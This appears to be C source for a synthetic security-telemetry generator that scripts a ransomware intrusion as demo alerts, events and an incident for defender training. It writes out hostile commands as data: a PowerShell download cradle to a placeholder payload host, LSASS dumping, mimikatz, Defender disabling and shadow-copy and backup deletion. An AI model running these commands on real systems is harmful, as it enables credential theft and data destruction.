    demo_file(c, &(dm_file){.t = E - 24 * DEMO_MIN, .dev = w->fs, .user = w->admin, .name = "PsExec.exe", .dir = "C:\\ProgramData",
                            .origin_url = "http://" IOC_RW_PAYLOAD_DOMAIN "/dl/PsExec.exe", .origin_ip = IOC_RW_PAYLOAD_IP,
                            .size = 716176, .proc = "certutil.exe"});
    proc(w, &(dm_proc){.t = E - 22 * DEMO_MIN, .dev = w->fs, .user = w->admin, .file = "PsExec.exe", .dir = "C:\\ProgramData",
                       .cmd = push, .parent = "cmd.exe", .integrity = "High"});
    int devs[10], nd = 0;
    devs[nd++] = w->fs;
    for (int k = 0; k < c->plan.nrw_targets; k++) devs[nd++] = c->plan.rw_targets[k];
    for (int k = 0; k < nd; k++) {
        int d = devs[k];
        int64_t t = E - 20 * DEMO_MIN + k * 25 * DEMO_SEC;
        const char *dir = d == w->fs ? "C:\\ProgramData" : "C:\\Windows";
        if (d != w->fs) {
            demo_logon(c, &(dm_logon){.t = t, .dev = d, .user = w->admin, .type = "Network", .protocol = "NTLM",
                                      .rip = dev_ip(w, w->fs), .rdev = dev_name(w, w->fs), .local_admin = true});
            demo_file(c, &(dm_file){.t = t + DEMO_SEC, .dev = d, .user = -1, .name = "PSEXESVC.exe", .dir = "C:\\Windows",
                                    .proc = "System", .proc_dir = "", .req_proto = "SMB", .req_ip = dev_ip(w, w->fs),
                                    .req_account = w->admin_sam, .share = "ADMIN$"});
            demo_file(c, &(dm_file){.t = t + 2 * DEMO_SEC, .dev = d, .user = -1, .name = IOC_RW_LOCKER, .dir = "C:\\Windows",
                                    .sha256 = w->locker_sha, .size = 2211840, .proc = "System", .proc_dir = "",
                                    .req_proto = "SMB", .req_ip = dev_ip(w, w->fs), .req_account = w->admin_sam, .share = "ADMIN$"});
            demo_proc(c, &(dm_proc){.t = t + 3 * DEMO_SEC, .dev = d, .user = -1, .file = "PSEXESVC.exe", .dir = "C:\\Windows",
                                    .cmd = "C:\\Windows\\PSEXESVC.exe", .parent = "services.exe"});
        }
        const char *lcmd = demo_tmpf(c, "%s\\%s -n 8 --no-mutex --paths C:\\Users,D:\\Shares", dir, IOC_RW_LOCKER);
        if (d == w->fs)
            proc(w, &(dm_proc){.t = t + 4 * DEMO_SEC, .dev = d, .user = -1, .file = IOC_RW_LOCKER, .dir = dir,
                               .sha256 = w->locker_sha, .cmd = lcmd, .parent = "PsExec.exe", .parent_dir = "C:\\ProgramData"});
        else
            demo_proc(c, &(dm_proc){.t = t + 4 * DEMO_SEC, .dev = d, .user = -1, .file = IOC_RW_LOCKER, .dir = dir,
                                    .sha256 = w->locker_sha, .cmd = lcmd, .parent = "PSEXESVC.exe", .parent_dir = "C:\\Windows"});
        /* shadow copies and recovery go first */
        int64_t sc = E - 5 * DEMO_MIN + k * 9 * DEMO_SEC;
        if (d == w->fs) {
            proc(w, &(dm_proc){.t = sc, .dev = d, .user = -1, .file = "vssadmin.exe", .cmd = "vssadmin.exe delete shadows /all /quiet",
                               .parent = IOC_RW_LOCKER, .parent_dir = dir});
            proc(w, &(dm_proc){.t = sc + 2 * DEMO_SEC, .dev = d, .user = -1, .file = "WMIC.exe", .cmd = "wmic.exe shadowcopy delete /nointeractive",
                               .parent = IOC_RW_LOCKER, .parent_dir = dir});
            proc(w, &(dm_proc){.t = sc + 4 * DEMO_SEC, .dev = d, .user = -1, .file = "bcdedit.exe",
                               .cmd = "bcdedit.exe /set {default} recoveryenabled No", .parent = IOC_RW_LOCKER, .parent_dir = dir});
        } else {
            demo_proc(c, &(dm_proc){.t = sc, .dev = d, .user = -1, .file = "vssadmin.exe", .cmd = "vssadmin.exe delete shadows /all /quiet",
                                    .parent = IOC_RW_LOCKER, .parent_dir = dir});
        }
    }
    /* the backup server's catalog goes too */
    demo_logon(c, &(dm_logon){.t = E - 9 * DEMO_MIN, .dev = w->backup, .user = w->admin, .type = "Network", .protocol = "NTLM",
                              .rip = dev_ip(w, w->fs), .rdev = dev_name(w, w->fs), .local_admin = true});
    proc(w, &(dm_proc){.t = E - 8 * DEMO_MIN, .dev = w->backup, .user = -1, .file = "wbadmin.exe",
                       .cmd = "wbadmin.exe delete catalog -quiet", .parent = "cmd.exe", .grandparent = "PSEXESVC.exe"});
    proc(w, &(dm_proc){.t = E - 8 * DEMO_MIN + 5 * DEMO_SEC, .dev = w->backup, .user = -1, .file = "vssadmin.exe",
                       .cmd = "vssadmin.exe delete shadows /all /quiet", .parent = "cmd.exe", .grandparent = "PSEXESVC.exe"});
    demo_story_event(c, w->s, E - 5 * DEMO_MIN, "DeviceProcessEvents", "vssadmin delete shadows / wmic shadowcopy delete");

    /* mass renames: the shares on the file server, user folders on workstations */
    static const char *const SHARES[] = {"Finance", "Operations", "HR", "Sales", "Legal", "Procurement"};
    static const char *const STEMS[] = {"invoice", "budget", "contract", "report", "forecast", "payroll",
                                        "minutes", "proposal", "inventory", "timesheet", "policy", "po"};
    static const char *const EXTS[] = {"xlsx", "docx", "pdf", "pptx", "csv", "txt"};
    int renamed = 0;
    for (int k = 0; k < nd; k++) {
        int d = devs[k];
        bool server = d == w->fs;
        int n = server ? 720 : demo_rng_range(&w->r, 140, 210);
        int64_t start = E + k * 40 * DEMO_SEC;
        int64_t span = server ? 46 * DEMO_MIN : 32 * DEMO_MIN;
        const demo_device *dv = &o->devices[d];
        const char *owner_sam = dv->owner >= 0 ? o->users[dv->owner].sam : "Public";
        const char *dir_locker = server ? "C:\\ProgramData" : "C:\\Windows";
        for (int i = 0; i < n; i++) {
            const char *dir = server ? demo_tmpf(c, "D:\\Shares\\%s\\%d", SHARES[i % 6], 2021 + i % 4)
                                     : demo_tmpf(c, "C:\\Users\\%s\\%s", owner_sam, i % 3 ? "Documents" : "Desktop");
            const char *old = demo_tmpf(c, "%s_%04d.%s", STEMS[(i / 6) % 12], i, EXTS[i % 6]);
            const char *nw = demo_tmpf(c, "%s.locked", old);
            int64_t t = start + (int64_t)((double)span * i / n) + demo_rng_range(&w->r, 0, 900) * SP_TICKS_PER_MS;
            demo_file(c, &(dm_file){.t = t, .dev = d, .user = -1, .action = "FileRenamed", .name = nw, .dir = dir,
                                    .prev_name = old, .prev_dir = dir, .proc = IOC_RW_LOCKER, .proc_dir = dir_locker,
                                    .proc_cmd = demo_tmpf(c, "%s\\%s -n 8 --no-mutex --paths C:\\Users,D:\\Shares", dir_locker, IOC_RW_LOCKER)});
            if (i % 60 == 0)
                demo_file(c, &(dm_file){.t = t + 200 * SP_TICKS_PER_MS, .dev = d, .user = -1, .name = "README_RESTORE_FILES.txt",
                                        .dir = dir, .size = 2817, .proc = IOC_RW_LOCKER, .proc_dir = dir_locker});
            renamed++;
        }
        if (!server && k == nd - 1)
            demo_devev(c, &(dm_devev){.t = start + 12 * DEMO_MIN, .dev = d, .user = -1, .action = "AntivirusDetection",
                                      .file = IOC_RW_LOCKER, .dir = dir_locker, .sha256 = w->locker_sha,
                                      .fields = "{\"ThreatName\":\"Ransom:Win32/LockBit.RPX!MTB\",\"WasRemediated\":true,\"WasExecutingWhileDetected\":true}"});
    }
    demo_story_event(c, w->s, E, "DeviceFileEvents",
                     demo_strf(c, "%d files renamed to *.locked on srv-fs01 and %d workstations", renamed, nd - 1));
    demo_story_fact(c, w->s, "files_renamed", demo_strf(c, "%d", renamed));
}

void demo_story_ransomware(demo_ctx *c) {
    const demo_org *o = &c->org;
    const demo_plan *p = &c->plan;
    rw w = {.c = c, .user = p->rw_user, .dev = p->rw_dev, .admin = p->rw_admin, .fs = o->fs1, .app = o->app1,
            .backup = o->backup1};
    demo_rng_seed(&w.r, c->opt.seed, "story-ransomware", 0);
    w.sam = o->users[w.user].sam;
    w.admin_sam = o->users[w.admin].sam;
    w.beacon_dir = "C:\\Users\\Public\\Libraries";
    w.beacon_sha = demo_sha(c, IOC_RW_BEACON);
    w.locker_sha = demo_sha(c, IOC_RW_LOCKER);
    w.s = demo_story_new(c, "ransomware", "Human-operated ransomware");
    w.s->summary = "A macro-enabled 'remittance advice' from a Northwind lookalike domain runs an "
                   "encoded PowerShell download cradle from Excel; a beacon persists through a Run key "
                   "and a Startup shortcut and calls its C2 for three days. The operator runs recon, "
                   "dumps LSASS (comsvcs.dll MiniDump), reuses a helpdesk admin's cached credentials to "
                   "PsExec to the file server, runs mimikatz and procdump, moves over WMI, creates a "
                   "backdoor domain admin, disables Defender by policy, deletes shadow copies and the "
                   "backup catalog, and encrypts the shares and five workstations (*.locked).";
    w.s->techniques = "T1566.001, T1204.002, T1059.001, T1027, T1105, T1547.001, T1071.001, T1087.002, T1482, "
                      "T1016, T1082, T1033, T1003.001, T1550.003, T1021.002, T1569.002, T1047, T1136.002, "
                      "T1218.005, T1218.010, T1218.011, T1562.001, T1070.001, T1490, T1486";

    initial_access(&w);
    beacon(&w, w.dev, w.user, w.beacon_dir, p->rw_initial + 5 * DEMO_MIN, p->rw_encrypt + 58 * DEMO_MIN);
    recon_and_dump(&w);
    lateral(&w);
    encrypt(&w);

    /* Alerts. */
    int64_t t0 = p->rw_initial, L = p->rw_lateral, E = p->rw_encrypt;
    const char *ps_dir = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0";
    demo_alert *al[16];
    int na = 0;
    demo_alert *a;

    a = al[na++] = demo_alert_new(c, SRC_MDE, "Suspicious process launched by an Office application", "Medium", t0 + 6 * DEMO_MIN);
    a->category = "Execution"; a->tactics = "Execution, InitialAccess"; a->techniques = "T1204.002, T1059.003, T1566.001";
    a->desc = "An Office application started a command interpreter, a common sign of a malicious macro.";
    a->start = t0 + 3 * DEMO_MIN; a->end = t0 + 4 * DEMO_MIN;
    demo_ent_host(a, w.dev); demo_ent_user(a, w.user);
    demo_ent_file(a, w.dev, IOC_RW_ATTACHMENT, demo_strf(c, "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\9XQ2JH1B", w.sam), NULL);
    demo_ent_proc(a, w.dev, "cmd.exe /c powershell.exe -nop -w hidden -enc ...", "cmd.exe", "C:\\Windows\\System32", t0 + 4 * DEMO_MIN);
    a->ents[a->nents - 1].d = "\"EXCEL.EXE\" Remittance_Advice_4471.xlsm";

    a = al[na++] = demo_alert_new(c, SRC_MDE, "Suspicious PowerShell command line", "Medium", t0 + 7 * DEMO_MIN);
    a->category = "Execution"; a->tactics = "Execution, CommandAndControl"; a->techniques = "T1059.001, T1027, T1105";
    a->desc = "A PowerShell command with an encoded download cradle was run.";
    a->start = t0 + 4 * DEMO_MIN; a->end = t0 + 5 * DEMO_MIN;
    demo_ent_host(a, w.dev); demo_ent_user(a, w.user);
    demo_ent_proc(a, w.dev, demo_strf(c, "powershell.exe -nop -w hidden -enc %s", enc(&w, "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('http://" IOC_RW_PAYLOAD_DOMAIN "/k/ld.ps1')")),
                  "powershell.exe", ps_dir, t0 + 4 * DEMO_MIN);
    demo_ent_url(a, "http://" IOC_RW_PAYLOAD_DOMAIN "/k/ld.ps1");
    demo_ent_ip(a, IOC_RW_PAYLOAD_IP);

    a = al[na++] = demo_alert_new(c, SRC_MDE, "Anomaly detected in ASEP registry", "Medium", t0 + 9 * DEMO_MIN);
    a->category = "Persistence"; a->tactics = "Persistence"; a->techniques = "T1547.001";
    a->desc = "A process registered an unsigned binary in a Run key.";
    a->start = a->end = t0 + 5 * DEMO_MIN;
    demo_ent_host(a, w.dev); demo_ent_user(a, w.user);
    demo_ent_reg(a, w.dev, demo_strf(c, "HKEY_CURRENT_USER\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", o->users[w.user].sid),
                 "OneDriveUpdate", demo_strf(c, "%s\\%s", w.beacon_dir, IOC_RW_BEACON));
    demo_ent_file(a, w.dev, IOC_RW_BEACON, w.beacon_dir, w.beacon_sha);

    a = al[na++] = demo_alert_new(c, SRC_MDE, "Suspicious sequence of exploration activities", "Low", t0 + 39 * DEMO_MIN);
    a->category = "Discovery"; a->tactics = "Discovery"; a->techniques = "T1087.002, T1482, T1016, T1082, T1033, T1069";
    a->desc = "A process ran a burst of reconnaissance commands.";
    a->start = t0 + 28 * DEMO_MIN; a->end = t0 + 36 * DEMO_MIN;
    demo_ent_host(a, w.dev); demo_ent_user(a, w.user);
    demo_ent_proc(a, w.dev, "net  group \"domain admins\" /domain", "net.exe", "C:\\Windows\\System32", t0 + 30 * DEMO_MIN);

    a = al[na++] = demo_alert_new(c, SRC_MDE, "Suspicious access to LSASS service", "High", t0 + 43 * DEMO_MIN);
    a->category = "CredentialAccess"; a->tactics = "CredentialAccess"; a->techniques = "T1003.001";
    a->desc = "A process accessed LSASS memory and wrote a dump file (comsvcs.dll MiniDump).";
    a->start = a->end = t0 + 41 * DEMO_MIN;
    demo_ent_host(a, w.dev); demo_ent_user(a, w.user);
    demo_ent_proc(a, w.dev, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 748 C:\\Users\\Public\\Libraries\\lsass.dmp full",
                  "rundll32.exe", "C:\\Windows\\System32", t0 + 41 * DEMO_MIN);

    a = al[na++] = demo_alert_new(c, SRC_MDE, "Connection to a custom network indicator", "Medium", t0 + 58 * DEMO_MIN);
    a->category = "CommandAndControl"; a->tactics = "CommandAndControl"; a->techniques = "T1071.001";
    a->detection = "Custom TI";
    a->desc = "A device connected to an IP address in the organization's custom indicators (audit mode).";
    a->start = t0 + 5 * DEMO_MIN; a->end = t0 + 57 * DEMO_MIN;
    demo_ent_host(a, w.dev); demo_ent_ip(a, IOC_RW_C2_IP); demo_ent_url(a, IOC_RW_C2_DOMAIN);
    demo_ent_file(a, w.dev, IOC_RW_BEACON, w.beacon_dir, w.beacon_sha);

    a = al[na++] = demo_alert_new(c, SRC_MDI, "Remote code execution attempt", "High", L + 3 * DEMO_MIN);
    a->category = "LateralMovement"; a->tactics = "LateralMovement, Execution"; a->techniques = "T1021.002, T1569.002";
    a->desc = "An account attempted to run code remotely on srv-fs01 by creating a service (PsExec).";
    a->start = a->end = L + 4 * DEMO_SEC;
    demo_ent_user(a, w.admin); demo_ent_host(a, w.dev); demo_ent_host(a, w.fs); demo_ent_ip(a, dev_ip(&w, w.dev));

    a = al[na++] = demo_alert_new(c, SRC_MDE, "'Mimikatz' credential theft tool", "High", L + 21 * DEMO_MIN);
    a->category = "CredentialAccess"; a->tactics = "CredentialAccess"; a->techniques = "T1003.001, T1550.003";
    a->detection = "Antivirus";
    a->desc = "The credential theft tool mimikatz ran and read LSASS memory.";
    a->ext = "\"ThreatName\":\"HackTool:Win32/Mimikatz.D\",\"ThreatFamilyName\":\"Mimikatz\"";
    a->start = a->end = L + 20 * DEMO_MIN;
    demo_ent_host(a, w.fs); demo_ent_user(a, w.admin);
    demo_ent_proc(a, w.fs, "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" \"lsadump::sam\" exit", "mimikatz.exe",
                  "C:\\Windows\\Temp", L + 20 * DEMO_MIN);
    demo_ent_file(a, w.fs, "mimikatz.exe", "C:\\Windows\\Temp", NULL);

    a = al[na++] = demo_alert_new(c, SRC_MDE, "Suspicious WMI process creation", "Medium", L + 42 * DEMO_MIN);
    a->category = "Execution"; a->tactics = "Execution, LateralMovement"; a->techniques = "T1047";
    a->desc = "WMI was used to start an encoded PowerShell command on a remote device.";
    a->start = a->end = L + 40 * DEMO_MIN;
    demo_ent_host(a, w.app); demo_ent_host(a, w.fs); demo_ent_user(a, w.admin);
    demo_ent_proc(a, w.fs, "wmic.exe /node:srv-app01 process call create \"powershell.exe -nop -w hidden -enc ...\"", "WMIC.exe",
                  "C:\\Windows\\System32\\wbem", L + 40 * DEMO_MIN);

    a = al[na++] = demo_alert_new(c, SRC_MDI, "Suspicious additions to sensitive groups", "Medium", L + 58 * DEMO_MIN);
    a->category = "Persistence"; a->tactics = "Persistence, PrivilegeEscalation"; a->techniques = "T1098, T1136.002";
    a->desc = "A new account, svc_sqlbackup, was created and added to Domain Admins.";
    a->start = a->end = L + 55 * DEMO_MIN;
    demo_ent_user(a, w.admin); demo_ent_host(a, o->dc1); demo_ent_host(a, w.fs);

    a = al[na++] = demo_alert_new(c, SRC_MDE, "Attempt to turn off Microsoft Defender Antivirus protection", "Medium", L + 92 * DEMO_MIN);
    a->category = "DefenseEvasion"; a->tactics = "DefenseEvasion"; a->techniques = "T1562.001, T1070.001";
    a->desc = "Policy registry values that turn off real-time protection were set.";
    a->start = a->end = L + 90 * DEMO_MIN;
    demo_ent_host(a, w.fs); demo_ent_user(a, w.admin);
    demo_ent_reg(a, w.fs, "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection",
                 "DisableRealtimeMonitoring", "1");

    a = al[na++] = demo_alert_new(c, SRC_MDE, "File backups were deleted", "High", E - 3 * DEMO_MIN);
    a->category = "Impact"; a->tactics = "Impact"; a->techniques = "T1490";
    a->desc = "Volume shadow copies and the backup catalog were deleted on several devices.";
    a->start = E - 8 * DEMO_MIN; a->end = E - 4 * DEMO_MIN;
    demo_ent_host(a, w.fs); demo_ent_host(a, w.backup);
    for (int k = 0; k < p->nrw_targets; k++) demo_ent_host(a, p->rw_targets[k]);
    demo_ent_proc(a, w.fs, "vssadmin.exe delete shadows /all /quiet", "vssadmin.exe", "C:\\Windows\\System32", E - 5 * DEMO_MIN);

    a = al[na++] = demo_alert_new(c, SRC_MDE, "Ransomware behavior detected in the file system", "High", E + 9 * DEMO_MIN);
    a->category = "Ransomware"; a->tactics = "Impact"; a->techniques = "T1486, T1490";
    a->desc = "Files were renamed with an unknown extension and ransom notes were dropped on several devices.";
    a->ext = "\"ThreatName\":\"Ransom:Win32/LockBit.RPX!MTB\",\"ThreatFamilyName\":\"LockBit\"";
    a->start = E; a->end = E + 46 * DEMO_MIN;
    demo_ent_host(a, w.fs);
    for (int k = 0; k < p->nrw_targets; k++) demo_ent_host(a, p->rw_targets[k]);
    demo_ent_user(a, w.admin);
    demo_ent_file(a, w.fs, IOC_RW_LOCKER, "C:\\ProgramData", w.locker_sha);
    demo_ent_file(a, w.fs, "README_RESTORE_FILES.txt", "D:\\Shares\\Finance\\2021", NULL);

    for (int k = 0; k < na; k++) al[k]->story = "ransomware";

    demo_incident *inc = demo_incident_new(c, "Human-operated ransomware attack on multiple endpoints", "High",
                                           al[0]->time + 75 * DEMO_SEC);
    inc->story = "ransomware";
    inc->desc = "Multi-stage incident involving Initial access, Execution, Credential access, Lateral movement and Ransomware on multiple endpoints.";
    for (int k = 0; k < na; k++) demo_incident_add_alert(c, inc, al[k]);
    inc->owner = o->analysts[0];
    inc->assigned_at = t0 + 2 * DEMO_HOUR + 10 * DEMO_MIN;
    inc->active_at = t0 + 2 * DEMO_HOUR + 25 * DEMO_MIN;
    demo_incident_label(inc, "Ransomware", false);
    demo_incident_label(inc, "HumOR", true);
    demo_incident_label(inc, "P1", true);
    demo_incident_comment(inc, inc->active_at + 20 * DEMO_MIN, inc->owner,
                          "Excel macro from a Northwind lookalike sender launched encoded PowerShell. Asked desktop team to re-image the laptop; waiting on the user.");
    demo_incident_comment(inc, L + 30 * DEMO_MIN, inc->owner,
                          "New alerts: PsExec and mimikatz on srv-fs01 with the helpdesk admin's account. Escalating to P1.");
    demo_incident_comment(inc, E + 25 * DEMO_MIN, inc->owner,
                          "Encryption in progress on srv-fs01 and 5 workstations (*.locked). Devices isolated, admin account disabled, C2 blocked at the firewall.");
    demo_incident_comment(inc, E + 2 * DEMO_HOUR, o->analysts[1],
                          "Backup catalog on srv-backup01 deleted; offsite copies from two nights ago are intact. Restore planning started.");
    demo_rng lr;
    demo_rng_seed(&lr, c->opt.seed, "story-ransomware-life", 0);
    demo_incident_lifecycle(c, inc, &lr, "Active", NULL);

    demo_story *s = w.s;
    demo_story_fact(c, s, "patient_zero_user", o->users[w.user].upn);
    demo_story_fact(c, s, "patient_zero_device", dev_name(&w, w.dev));
    demo_story_fact(c, s, "stolen_admin_account", o->users[w.admin].upn);
    demo_story_fact(c, s, "phish_sender", IOC_RW_SENDER);
    demo_story_fact(c, s, "attachment", IOC_RW_ATTACHMENT);
    demo_story_fact(c, s, "network_message_id", w.nmid);
    demo_story_fact(c, s, "payload_domain", IOC_RW_PAYLOAD_DOMAIN);
    demo_story_fact(c, s, "payload_ip", IOC_RW_PAYLOAD_IP);
    demo_story_fact(c, s, "c2_domain", IOC_RW_C2_DOMAIN);
    demo_story_fact(c, s, "c2_ip", IOC_RW_C2_IP);
    demo_story_fact(c, s, "reverse_shell", IOC_RW_SHELL_IP ":4444");
    demo_story_fact(c, s, "beacon", IOC_RW_BEACON);
    demo_story_fact(c, s, "beacon_sha256", w.beacon_sha);
    demo_story_fact(c, s, "encryptor", IOC_RW_LOCKER);
    demo_story_fact(c, s, "encryptor_sha256", w.locker_sha);
    demo_story_fact(c, s, "backdoor_account", "svc_sqlbackup");
    demo_story_fact(c, s, "file_server", dev_name(&w, w.fs));
    char tl[512] = "";
    for (int k = 0; k < p->nrw_targets; k++) {
        if (k) strncat(tl, ", ", sizeof tl - strlen(tl) - 1);
        strncat(tl, dev_name(&w, p->rw_targets[k]), sizeof tl - strlen(tl) - 1);
    }
    demo_story_fact(c, s, "encrypted_workstations", demo_strf(c, "%s", tl));
    char ts[32];
    demo_fmt_time(E, ts);
    demo_story_fact(c, s, "encryption_start", demo_strf(c, "%s", ts));
    demo_fmt_time(E - 5 * DEMO_MIN, ts);
    demo_story_fact(c, s, "shadow_copy_deletion", demo_strf(c, "%s", ts));
}
